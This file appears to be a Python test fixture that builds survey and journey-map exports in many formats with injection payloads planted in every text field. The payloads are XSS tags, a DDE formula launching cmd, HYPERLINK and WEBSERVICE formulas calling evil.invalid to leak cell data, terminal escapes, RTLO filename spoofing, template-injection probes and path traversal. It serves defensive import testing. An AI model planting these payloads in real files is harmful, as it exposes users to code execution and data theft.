"""Exports with scripts, formulas and marks of all kinds planted wherever words can stand."""

from __future__ import annotations

import csv
import json
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable, Sequence
    from pathlib import Path

SCRIPT = '<script>window.planted=1</script><img src="x" onerror="window.planted=1">'
CALC = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://evil.invalid/?"&A1,"x")'
TERMINAL = "\x1b[31mred\x1b]0;owned\x07\x1b[2J"
TURNED = "\u202egnp.exe\u2066"
TEMPLATE = "{{7*7}}${7*7}<%=7*7%>#{7*7}"
BREAKING = '"""\n[study]\ntitle = "owned"\n#'
OUTSIDE = "../../outside"
PLANTED = (SCRIPT, CALC, LINK, TERMINAL, TURNED, TEMPLATE, BREAKING, OUTSIDE, "@SUM(1)", "+1-1x")


def _text(path: Path, rows: Sequence[Sequence[object]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(rows)
    return path


def _word(number: int) -> str:
    return PLANTED[number % len(PLANTED)]


def _near(number: int, question: int) -> int:
    """Rate a question as somebody in that mood would."""
    return min(5, max(1, 1 + number * 7 % 5 + (number + question) % 3 - 1))


def wide(folder: Path) -> Path:
    heads = ["id", *(f"Rate {word}" for word in PLANTED), f"segment {SCRIPT}", f"Comment {CALC}"]
    rows = [
        [n, *(_near(n, k) for k in range(len(PLANTED))), _word(n // 3), f"{_word(n)} is why"]
        for n in range(120)
    ]
    return _text(folder / "wide.csv", [heads, *rows])


def workbook(folder: Path) -> Path:
    import xlsxwriter

    path = folder / "book.xlsx"
    as_they_are = {"strings_to_formulas": False, "strings_to_urls": False}
    with (
        wide(folder).open(encoding="utf-8", newline="") as file,
        xlsxwriter.Workbook(str(path), as_they_are) as book,
    ):
        sheet = book.add_worksheet("=cmd <script>")
        for row, cells in enumerate(csv.reader(file)):
            for place, cell in enumerate(cells):
                if cell.isdecimal():
                    sheet.write_number(row, place, int(cell))
                else:
                    sheet.write_string(row, place, cell)
        sheet.write_formula(1, 1, '=WEBSERVICE("http://evil.invalid")', None, 4)
    return path


def long(folder: Path) -> Path:
    rows = [
        [n, _word(k), 1 + (n + k) % 5, _word(n)] for n in range(60) for k in range(len(PLANTED))
    ]
    return _text(folder / "long.csv", [["respondent", "question", "answer", "segment"], *rows])


def contract(folder: Path) -> Path:
    # An id of a study has no semicolon: that is refused at the door.
    rows = [
        [n, _word(n).replace(";", ","), _word(k).replace(";", ","), "csat", 1 + (n + k) % 5, CALC]
        for n in range(60)
        for k in range(len(PLANTED))
    ]
    heads = ["respondent", "persona", "touchpoint", "metric", "score", "comment"]
    return _text(folder / "contract.csv", [heads, *rows])


def surveymonkey(folder: Path) -> Path:
    parts = ["" for _ in PLANTED[1:]]
    top = ["RespondentID", "CollectorID", f"How satisfied? {SCRIPT}", *parts, f"{LINK} segment"]
    rows = [
        [10_000 + n, 1, *(1 + (n + k) % 5 for k in range(len(PLANTED))), _word(n // 2)]
        for n in range(80)
    ]
    return _text(folder / "monkey.csv", [top, ["", "", *PLANTED, "Response"], *rows])


def qualtrics(folder: Path) -> Path:
    names = ["StartDate", "Status", "Progress", "Finished", "ResponseId", "Q1", "Q2", "Segment"]
    asks = ["Start", "Type", "Progress", "Done", "Id", f"Rate {SCRIPT}", f"Rate {CALC}", TERMINAL]
    ids = [json.dumps({"ImportId": name}) for name in names]
    rows = [
        ["2026-01-02", "0", "100", "1", f"R_{n}", 1 + n % 5, 1 + (n + n // 7) % 5, _word(n // 2)]
        for n in range(80)
    ]
    return _text(folder / "qualtrics.csv", [names, asks, ids, *rows])


def forms(folder: Path) -> Path:
    words = ["Very dissatisfied", "Dissatisfied", "Neutral", "Satisfied", "Very satisfied"]
    heads = [
        "Timestamp",
        f"How satisfied are you with {SCRIPT}?",
        f"How satisfied with {CALC}?",
        LINK,
    ]
    rows = [
        ["2026/01/02 10:00:00", words[n % 5], words[(n + n // 9) % 5], _word(n)] for n in range(90)
    ]
    return _text(folder / "forms.csv", [heads, *rows])


def spss(folder: Path) -> Path:
    import pandas as pd
    import pyreadstat

    path = folder / "survey.sav"
    frame = pd.DataFrame(
        {
            "q1": [float(1 + n % 5) for n in range(90)],
            "q2": [float(1 + (n + n // 7) % 5) for n in range(90)],
            "segm": [float(1 + n % 3) for n in range(90)],
        }
    )
    pyreadstat.write_sav(
        frame,
        str(path),
        column_labels=[f"Rate {SCRIPT}", f"Rate {CALC}", f"Segment {TEMPLATE}"],
        variable_value_labels={"segm": {1.0: SCRIPT, 2.0: LINK, 3.0: TURNED}},
    )
    return path


def _beside(folder: Path, path: Path) -> list[Path]:
    """A survey about the touchpoints of a map."""
    heads = ["id", *(f"Rate {word}" for word in PLANTED)]
    rows = [[n, *(1 + (n + k) % 5 for k in range(len(PLANTED)))] for n in range(60)]
    return [_text(folder / "survey.csv", [heads, *rows]), path]


def journey(folder: Path) -> list[Path]:
    content = {
        "persona": SCRIPT,
        "title": CALC,
        "stages": [{"id": "s", "name": SCRIPT}, {"id": "t", "name": LINK}],
        "swimlanes": [{"id": "l", "name": "Actions"}],
        "nodes": [
            {"stageId": "st"[k % 2], "swimlaneId": "l", "title": word, "description": CALC}
            for k, word in enumerate(PLANTED)
        ],
    }
    path = folder / "map.ojf"
    path.write_text(json.dumps(content), encoding="utf-8")
    return _beside(folder, path)


def drawn(folder: Path) -> list[Path]:
    rows = [[_word(k + 1), word, _word(k + 2), CALC, LINK] for k, word in enumerate(PLANTED)]
    heads = ["Stage", "Touchpoint", "Channel", "Emotion", "Owner"]
    return _beside(folder, _text(folder / "map.csv", [heads, *rows]))


#: What makes each kind of export: one file or several.
EXPORTS: dict[str, Callable[[Path], Path | list[Path]]] = {
    "wide": wide,
    "workbook": workbook,
    "long": long,
    "columns of a study": contract,
    "SurveyMonkey": surveymonkey,
    "Qualtrics": qualtrics,
    "Forms": forms,
    "SPSS": spss,
    "a map": journey,
    "a drawn map": drawn,
}
